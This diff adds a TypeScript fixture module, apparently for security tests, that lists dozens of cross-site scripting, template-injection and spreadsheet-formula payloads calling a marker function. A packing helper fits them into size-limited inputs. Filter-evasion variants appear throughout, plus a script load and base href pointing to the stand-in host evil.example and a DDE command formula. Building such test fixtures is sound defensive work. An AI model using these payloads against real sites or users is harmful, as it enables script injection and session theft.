@@ -1,0 +1,77 @@
+/** Texts that would call `hit()` if a page took them for anything but words; the first half is short enough for a name. */
+export const ATTACKS: readonly string[] = [
+  '<svg onload=hit()>',
+  '<b onclick=hit()>b',
+  '<p onfocus=hit()>p',
+  '<svg/onload=hit()>',
+  '<i id=x>',
+  '<style>*{color:red}',
+  '"onfocus=hit() x="',
+  "'onfocus=hit() x='",
+  '`onfocus=hit()`',
+  '\u0024{hit()}',
+  '{{hit()}}',
+  '<%=hit()%>',
+  '#{hit()}',
+  'javascript:hit()',
+  'JaVaScRiPt:hit()',
+  '[x](javascript:hit())',
+  '</textarea><svg>',
+  '</title><svg>',
+  '</script><svg>',
+  '<!--><svg onload=hit()>',
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '=cmd|x!A1',
+  '\u202e<b onclick=hit()>',
+  '&lt;svg onload&gt;',
+  '&#60;svg onload=hit()>',
+  '\\u003csvg onload=hit()>',
+  '%3Csvg onload=hit()%3E',
+  '<script>hit()</script>',
+  '<ScRiPt>hit()</sCrIpT>',
+  '</script><script>hit()</script>',
+  '<script src=//evil.example/x.js></script>',
+  '<script type=module>hit()</script>',
+  '<img src=x onerror=hit()>',
+  '<img src="x" onerror="hit()"/>',
+  '<image href=x onerror=hit()>',
+  '<input autofocus onfocus=hit()>',
+  '<select autofocus onfocus=hit()>',
+  '<details open ontoggle=hit()>',
+  '<video><source onerror=hit()></video>',
+  '<audio src=x onerror=hit()>',
+  '<body onload=hit()>',
+  '<iframe srcdoc="<script>parent.hit()</script>">',
+  '<iframe src="javascript:parent.hit()"></iframe>',
+  '<object data="javascript:hit()"></object>',
+  '<embed src="javascript:hit()">',
+  '<a href="javascript:hit()">x</a>',
+  '<a href="java\tscript:hit()">x</a>',
+  '<a href="data:text/html,<script>hit()</script>">x</a>',
+  '<form action="javascript:hit()"><button>x</button></form>',
+  '<button formaction="javascript:hit()">x</button>',
+  '<base href="//evil.example/"><a href=x>x</a>',
+  '<meta http-equiv=refresh content="0;javascript:hit()">',
+  '<link rel=stylesheet href="javascript:hit()">',
+  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
+  '<svg><script>hit()</script></svg>',
+  '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+  '<div style="background:url(javascript:hit())">x</div>',
+  '<template><img src=x onerror=hit()></template>',
+]
+
+/** As many of the attacks as `accepts` takes in one text, from number `at` on; what fits nowhere is passed over. */
+export function packAttacks(at: number, accepts: (text: string) => boolean): { text: string; next: number } {
+  let text = ''
+  for (let step = 0; step < ATTACKS.length; step++) {
+    const longer = text + ATTACKS[(at + step) % ATTACKS.length]
+    if (accepts(longer)) text = longer
+    else if (text !== '') return { text, next: at + step }
+  }
+  return { text, next: at + ATTACKS.length }
+}
